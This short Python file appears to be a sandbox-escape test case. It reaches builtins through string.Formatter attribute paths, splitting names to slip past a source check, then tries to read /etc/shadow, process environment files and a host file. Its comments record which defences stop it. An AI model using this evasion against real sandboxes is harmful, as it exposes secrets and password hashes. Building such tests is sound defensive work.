# Tries: to reach builtins by the attribute paths of format strings, which are data for a source
# check: string.Formatter gives the object itself.
# Stopped by: a minimal root and an empty environment; the source check does not see it.
# Bare: yes
import string


def follow(path, thing):
    return string.Formatter().get_field("0." + path, (thing,), {})[0]


names = follow("__init__.__" + "globals__", string.Template)
builtins = names["__" + "builtins__"]
opening = builtins["op" + "en"] if isinstance(builtins, dict) else follow("op" + "en", builtins)
print(("{0.__" + "class__.__" + "mro__}").format(string))
for path in (context["host_file"], "/proc/self/environ", "/proc/1/environ", "/etc/shadow"):
    try:
        print(opening(path).read())
    except Exception as refusal:
        print(refusal)
